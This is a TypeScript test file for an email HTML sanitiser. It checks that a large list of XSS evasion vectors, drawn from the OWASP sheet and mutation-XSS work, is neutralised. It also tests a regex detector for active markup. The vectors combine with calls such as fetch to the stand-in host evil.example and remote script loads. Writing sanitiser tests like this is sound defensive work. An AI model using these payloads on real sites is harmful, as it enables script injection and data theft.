import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { safeHtml, textOf } from '../../server/mail/letter.ts'

const CALLS = ['alert(1)', 'fetch("//evil.example")', 'top.location="//evil.example"']

/** Ways to run `call`, as collected by the OWASP XSS filter evasion sheet and the mutation-XSS literature. */
const WAYS: ((call: string) => string)[] = [
  c => `<script>${c}</script>`,
  c => `<ScRiPt src=//evil.example/x.js>${c}</sCrIpT>`,
  c => `<script/x>${c}</script >`,
  c => `<<script>${c}//<</script>`,
  c => `<scr<script>ipt>${c}</scr</script>ipt>`,
  c => `<img src=x onerror=${c}>`,
  c => `<img src=x onerror="${c.replaceAll('"', "'")}">`,
  c => `<img """><script>${c}</script>">`,
  c => `<img src="jav&#x09;ascript:${c.replaceAll('"', "'")}">`,
  c => `<img src=\`javascript:${c}\`>`,
  c => `<img dynsrc="javascript:${c.replaceAll('"', "'")}">`,
  c => `<a href="javascript:${c.replaceAll('"', "'")}">x</a>`,
  c => `<a href="JaVaScRiPt:${c.replaceAll('"', "'")}">x</a>`,
  c => `<a href="java\nscript:${c.replaceAll('"', "'")}">x</a>`,
  c => `<a href="&#106;avascript:${c.replaceAll('"', "'")}">x</a>`,
  c => `<a href=" \u0001javascript:${c.replaceAll('"', "'")}">x</a>`,
  c => `<a href="data:text/html,<script>${c}</script>">x</a>`,
  c => `<a href="vbscript:${c.replaceAll('"', "'")}">x</a>`,
  c => `<svg onload=${c}>`,
  c => `<svg><script>${c}</script></svg>`,
  c => `<svg><animate onbegin=${c} attributeName=x></svg>`,
  c => `<svg><a xlink:href="javascript:${c.replaceAll('"', "'")}"><text>x</text></a></svg>`,
  c => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  c =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style></mglyph></table></mtext></math>`,
  c => `<math href="javascript:${c.replaceAll('"', "'")}">x</math>`,
  c => `<iframe src="javascript:${c.replaceAll('"', "'")}"></iframe>`,
  c => `<iframe srcdoc="<script>${c.replaceAll('"', "'")}</script>"></iframe>`,
  c => `<object data="javascript:${c.replaceAll('"', "'")}"></object>`,
  c => `<embed src="javascript:${c.replaceAll('"', "'")}">`,
  c => `<form action="javascript:${c.replaceAll('"', "'")}"><input type=submit></form>`,
  c => `<form><button formaction="javascript:${c.replaceAll('"', "'")}">x</button></form>`,
  c => `<input onfocus=${c} autofocus>`,
  c => `<select onfocus=${c} autofocus></select>`,
  c => `<textarea onfocus=${c} autofocus></textarea>`,
  c => `<body onload=${c}>`,
  c => `<body background="javascript:${c.replaceAll('"', "'")}">`,
  c => `<video><source onerror=${c}></video>`,
  c => `<audio src=x onerror=${c}>`,
  c => `<details open ontoggle=${c}>x</details>`,
  c => `<marquee onstart=${c}>x</marquee>`,
  c => `<div style="background:url(javascript:${c.replaceAll('"', "'")})">x</div>`,
  c => `<div style="width:expression(${c.replaceAll('"', "'")})">x</div>`,
  c => `<div style="position:fixed;top:0;left:0;width:100%;height:100%">${c}</div>`,
  c => `<style>@import "//evil.example";*{background:url(//evil.example)}</style><!--${c}-->`,
  c => `<link rel=stylesheet href=//evil.example/x.css><!--${c}-->`,
  c => `<meta http-equiv=refresh content="0;url=javascript:${c.replaceAll('"', "'")}">`,
  c => `<base href="javascript:${c.replaceAll('"', "'")}//">`,
  c => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  c => `<xmp><img title="</xmp><img src=x onerror=${c}>"></xmp>`,
  c => `<template><script>${c}</script></template>`,
  c => `<title><a href="</title><img src=x onerror=${c}>"></title>`,
  c => `<textarea><img title="</textarea><img src=x onerror=${c}>"></textarea>`,
  c => `<!--><img src=x onerror=${c}>-->`,
  c => `<![CDATA[><img src=x onerror=${c}>]]>`,
  c => `<?xml version="1.0"?><img src=x onerror=${c}>`,
  c => `<p onclick=${c} ONMOUSEOVER=${c}>x</p>`,
  c => `<p/onclick=${c}>x</p>`,
  c => `<table background="javascript:${c.replaceAll('"', "'")}"><tr><td>x</td></tr></table>`,
  c => `<isindex type=image src=1 onerror=${c}>`,
  c => `<keygen autofocus onfocus=${c}>`,
  c => `<a href="//evil.example" target=_blank onclick=${c}>x</a>`,
]
const SURROUNDINGS: ((html: string) => string)[] = [
  html => html,
  html => `<p>before ${html} after</p>`,
  html => `<table><tr><td>${html}</td></tr></table>`,
]

/** What no sanitised letter holds, outside of text. */
const ACTIVE =
  /<\s*(?:script|style|iframe|frame|object|embed|form|input|button|textarea|select|svg|math|link|meta|base|body|video|audio|template|noscript|title|xmp|details|marquee|keygen)\b|<[^>]*[\s/](?:on\w+|srcdoc|formaction|background|dynsrc|xlink:href|target)\s*=|<[^>]*(?:javascript|vbscript)\s*:|<[^>]*(?:href|src)\s*=\s*["']?\s*(?:data:text|\/\/)|<[^>]*style="[^"]*(?:url|expression|position|@import)/i

/** As written, and as a browser reads it: references decoded, control characters dropped. */
function isActive(html: string): boolean {
  const decoded = html
    .replace(/&#x([0-9a-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what browsers drop from an address
    .replace(/[\u0000-\u001f]/g, '')
  return ACTIVE.test(html) || ACTIVE.test(decoded)
}

test('no way to run a script, load, cover or send survives', () => {
  let tried = 0
  for (const way of WAYS) {
    for (const call of CALLS) {
      for (const around of SURROUNDINGS) {
        const html = around(way(call))
        const safe = safeHtml(html)
        assert.not(isActive(safe), html)
        assert.not(isActive(safeHtml(safe)), `read a second time: ${html}`)
        tried++
      }
    }
  }
  assert.ok(tried >= 300)
})

test('the law above would see each of the ways, were it left alone', () => {
  for (const way of WAYS) assert.ok(isActive(way('alert(1)')), way('alert(1)'))
})

test('what a letter is made of stays', () => {
  const html =
    '<h1 style="color:#123456">Run 7</h1><p><b>All</b> 40 &lt; 41</p><ul><li>one</li></ul>' +
    '<table border="1"><tr><td colspan="2">x</td></tr></table>' +
    '<a href="https://example.org/a?b=1&amp;c=2">more</a><img src="https://example.org/x.png" alt="plot" />'
  const safe = safeHtml(html)
  assert.ok(
    safe.startsWith('<div style="max-width:600px;margin:0 auto"><h1 style="color:#123456">'),
  )
  for (const part of ['<b>All</b> 40 &lt; 41', '<li>one</li>', 'colspan="2"', 'alt="plot"']) {
    assert.ok(safe.includes(part), part)
  }
  assert.match(safe, /<a href="https:\/\/example\.org\/a\?b=1&amp;c=2" rel="noopener/)
})

test('the text says what the HTML says, with its links and lists', () => {
  const text = textOf(
    safeHtml('<h1>Run 7</h1><p>Done in 3&nbsp;s.</p><ul><li>a</li><li>b</li></ul>'),
  )
  assert.match(text, /Run 7/)
  assert.match(text, /Done in 3.s\./)
  assert.match(text, /\* a\n.*\* b/)
  assert.not.match(textOf(safeHtml('<script>alert(1)</script>kept')), /alert/)
})

test('headings keep their case: a unit in capitals is another one (before: 5 MW)', () => {
  for (const n of [1, 2, 3, 4, 5, 6]) {
    assert.match(textOf(safeHtml(`<h${n}>Laser of 5 mW</h${n}>`)), /Laser of 5 mW/)
  }
})

test('deep nesting ends in bounded time', () => {
  const safe = safeHtml('<div>'.repeat(20_000))
  assert.ok(safe.length < 2000)
})

test.run()
